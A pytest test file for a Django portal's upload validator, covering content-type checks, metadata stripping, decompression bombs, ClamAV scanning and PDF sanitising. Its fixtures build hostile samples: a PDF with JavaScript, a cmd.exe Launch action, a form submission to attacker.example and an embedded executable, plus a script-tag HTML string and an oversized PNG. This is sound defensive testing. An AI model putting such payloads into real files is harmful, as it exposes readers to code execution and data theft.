"""Uploads are judged by what is inside them: scanned for viruses, their type read from the
content and matching their name, images re-encoded within a memory bound, PDFs without active
content."""

import io
import logging

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from portal.core.uploads import upload_mark_scanned, upload_validate
from tests.conftest import EICAR

ALL = ["pdf", "jpeg", "png"]
MB = 1024 * 1024


def pdf_bytes(password: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image_bytes(fmt: str, size=(40, 30), exif: bool = False) -> bytes:
    image = Image.new("RGB", size, "teal")
    buffer = io.BytesIO()
    options = {}
    if exif:
        data = Image.Exif()
        data[0x8825] = {1: "N", 2: (17.0, 58.0, 0.0)}  # GPS position
        data[0x010F] = "PhoneMaker"
        options["exif"] = data
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def check(name: str, content: bytes, accepted=ALL, max_bytes=5 * MB):
    return upload_validate(
        SimpleUploadedFile(name, content), accepted=accepted, max_bytes=max_bytes
    )


def refused(name: str, content: bytes, **kwargs) -> str:
    with pytest.raises(ValidationError) as raised:
        check(name, content, **kwargs)
    return " ".join(raised.value.messages)


def test_a_real_pdf_is_accepted_as_it_is():
    content = pdf_bytes()
    file, content_type = check("letter.pdf", content)
    assert content_type == "application/pdf"
    assert file.read() == content


def test_a_photo_is_re_encoded_without_its_hidden_location():
    original = image_bytes("JPEG", exif=True)
    assert b"PhoneMaker" in original
    file, content_type = check("photo.jpg", original)
    cleaned = file.read()
    assert content_type == "image/jpeg"
    assert file.name == "photo.jpg"
    assert b"PhoneMaker" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.format == "JPEG" and image.size == (40, 30)
        assert not image.getexif()


def test_a_png_named_pdf_is_refused_where_pdf_and_png_are_accepted():
    """Kept, it would be downloaded as scan.pdf and open as nothing."""
    message = refused("scan.pdf", image_bytes("PNG"))
    assert "is a PNG image, but its name ends in “.pdf”" in message
    assert "Rename it to end in “.png”" in message


@pytest.mark.parametrize("name", ["letter.html", "letter.exe", "letter.pdf.svg", "ID v1.2"])
def test_a_pdf_whose_name_says_another_type_is_refused(name):
    assert "is a PDF, but its name ends in" in refused(name, pdf_bytes())


@pytest.mark.parametrize("name", ["photo.JPG", "photo.jpeg", "photo.jfif", "photo"])
def test_a_jpeg_by_any_of_its_names_or_none_is_accepted(name):
    file, content_type = check(name, image_bytes("JPEG"))
    assert content_type == "image/jpeg" and file.name == name


def test_a_png_named_pdf_is_refused_where_only_pdf_is_accepted():
    assert "must be one of: PDF" in refused("scan.pdf", image_bytes("PNG"), accepted=["pdf"])


def test_an_executable_named_jpg_is_refused():
    assert "named like a JPEG image but is not one" in refused(
        "photo.jpg", b"MZ\x90\x00\x03" + b"\x00" * 200
    )


@pytest.mark.parametrize(
    "content",
    [
        b"<html><body><script>alert(1)</script></body></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
)
def test_html_and_svg_are_refused(content):
    assert "named like a PDF but is not one" in refused("page.pdf", content)


def test_a_corrupt_pdf_is_refused():
    assert "damaged" in refused("letter.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50)


def test_a_password_protected_pdf_is_refused():
    assert "password" in refused("letter.pdf", pdf_bytes(password="secret"))


def test_a_jpeg_that_stops_half_way_is_refused():
    assert "damaged" in refused("photo.jpg", image_bytes("JPEG")[:120])


def test_a_decompression_bomb_is_refused_without_being_decoded():
    # A 20,000 x 20,000 PNG of one colour: a few hundred kilobytes, 400 million pixels.
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, "PNG")
    assert len(buffer.getvalue()) < 5 * MB
    assert "too many pixels" in refused("bomb.png", buffer.getvalue())


def test_a_file_over_the_limit_is_refused_before_it_is_read():
    assert "smaller than 1.0" in refused("big.pdf", pdf_bytes() + b" " * MB, max_bytes=MB)


# --- Images: the memory they take decoded ------------------------------------------------------


def pillow_images_made() -> int:
    return Image.core.get_stats()["new_count"]


def png_of(mode: str, size: tuple[int, int]) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def test_a_small_png_that_unpacks_to_too_much_memory_is_refused_before_it_is_decoded():
    # 36 million pixels, under the pixel cap; 144 MB decoded, from a file of a few hundred KB.
    content = png_of("RGB", (6000, 6000))
    assert len(content) < MB
    before = pillow_images_made()
    assert "too many pixels" in refused("scan.png", content)
    assert pillow_images_made() == before  # no image was decoded


def test_a_one_bit_49_megapixel_png_is_re_encoded_one_bit_without_growing():
    """A byte a pixel decoded, and no colour copy: before, it was turned into 196 MB of RGB
    and written back at twenty times its size."""
    content = png_of("1", (7000, 7000))
    file, _type = check("scan.png", content)
    cleaned = file.read()
    assert len(cleaned) < 2 * len(content)
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.mode == "1" and image.size == (7000, 7000)


def test_a_png_keeps_its_transparency_and_loses_its_text():
    image = Image.new("RGBA", (10, 10), (255, 0, 0, 0))
    buffer = io.BytesIO()
    from PIL import PngImagePlugin

    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "hidden note")
    image.save(buffer, "PNG", pnginfo=text)
    file, _type = check("logo.png", buffer.getvalue())
    cleaned = file.read()
    assert b"hidden note" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as result:
        assert result.mode == "RGBA" and result.getpixel((0, 0)) == (255, 0, 0, 0)


# --- PDFs: active content -----------------------------------------------------------------------


def active_pdf() -> bytes:
    """A PDF with every kind of active content: a script run on opening, a launch action, a
    link that submits a form, a page action, and an attached program."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    writer.add_attachment("setup.exe", b"MZ\x90\x00 a program")
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/SubmitForm"),
                    NameObject("/F"): TextStringObject("https://attacker.example/"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    page[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("1"),
                }
            )
        }
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_a_pdf_loses_its_scripts_actions_and_attached_files_and_keeps_its_pages():
    original = active_pdf()
    for active in (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"/AA"):
        assert active in original
    file, content_type = check("letter.pdf", original)
    cleaned = file.read()
    assert content_type == "application/pdf" and file.name == "letter.pdf"
    for active in (b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"/AA"):
        assert active not in cleaned, active
    assert b"a program" not in cleaned
    reader = PdfReader(io.BytesIO(cleaned))
    assert len(reader.pages) == 1
    assert [annotation.get_object()["/Subtype"] for annotation in reader.pages[0]["/Annots"]] == [
        "/Link"
    ]


def test_a_pdf_opened_at_a_page_is_kept_as_it_is():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[1].indirect_reference, NameObject("/Fit")]
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    file, _type = check("letter.pdf", buffer.getvalue())
    assert file.read() == buffer.getvalue()


# --- The virus scan ----------------------------------------------------------------------------


def test_without_a_scanner_nothing_is_scanned(settings):
    settings.CLAMD_ADDRESS = ""
    # The EICAR text is no PDF: refused by its type, as any text file named .pdf is.
    assert "named like a PDF but is not one" in refused("eicar.pdf", EICAR)


def test_the_scanner_refuses_the_eicar_test_file_and_accepts_a_clean_pdf_and_image(clamd, caplog):
    with caplog.at_level(logging.WARNING, logger="portal.core.uploads"):
        message = refused("id-card.pdf", EICAR)
    assert "refused because our virus check found it unsafe" in message
    assert "eicar" in caplog.text.lower()
    assert check("letter.pdf", pdf_bytes())[1] == "application/pdf"
    assert check("photo.jpg", image_bytes("JPEG"))[1] == "image/jpeg"


def test_a_file_of_many_chunks_reaches_clamd_whole(clamd):
    """Sent in chunks, each after its length: framed wrong, clamd answers an error and the
    upload would be refused."""
    content = pdf_bytes() + b"%" + b"0" * 300_000 + b"\n"
    assert check("letter.pdf", content)[1] == "application/pdf"


def test_clamd_stopped_refuses_the_upload_asking_to_retry_and_tells_the_operators(
    clamd_down, caplog
):
    with caplog.at_level(logging.ERROR, logger="portal.core.uploads"):
        message = refused("letter.pdf", pdf_bytes())
    assert "could not be checked for viruses just now" in message
    assert "Try again in a few minutes" in message
    [record] = [r for r in caplog.records if r.levelno == logging.ERROR]
    assert clamd_down in record.getMessage()


def test_clamd_that_never_answers_refuses_the_upload_after_the_timeout(clamd_silent, caplog):
    with caplog.at_level(logging.ERROR, logger="portal.core.uploads"):
        message = refused("letter.pdf", pdf_bytes())
    assert "could not be checked for viruses just now" in message
    assert "Timeout" in caplog.text


def test_a_file_scanned_when_it_was_uploaded_is_not_scanned_again(clamd_down):
    """A file kept between the steps of a form passed the scan when it came."""
    file = upload_mark_scanned(SimpleUploadedFile("letter.pdf", pdf_bytes()))
    assert upload_validate(file, accepted=ALL, max_bytes=MB)[1] == "application/pdf"


def test_clamd_answering_an_error_refuses_the_upload_asking_to_retry(clamd, caplog, settings):
    """Here the error is the file passing clamd's StreamMaxLength (UPLOAD_MAX_MB + 1 in the
    test's clamd.conf): a portal whose limit is set above its clamd's refuses, never accepts
    unscanned."""
    too_long = pdf_bytes() + b"%" + b"0" * ((settings.UPLOAD_MAX_MB + 2) * MB) + b"\n"
    with caplog.at_level(logging.ERROR, logger="portal.core.uploads"):
        message = refused("letter.pdf", too_long, max_bytes=len(too_long))
    assert "could not be checked for viruses just now" in message
    assert "size limit exceeded" in caplog.text


def test_a_pdf_of_more_parts_than_can_be_checked_is_refused(monkeypatch):
    monkeypatch.setattr("portal.core.uploads.MAX_PDF_PARTS", 50)
    writer = PdfWriter()
    for _page in range(60):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    assert "too many parts to check" in refused("report.pdf", buffer.getvalue())
    assert check("letter.pdf", pdf_bytes())[1] == "application/pdf"
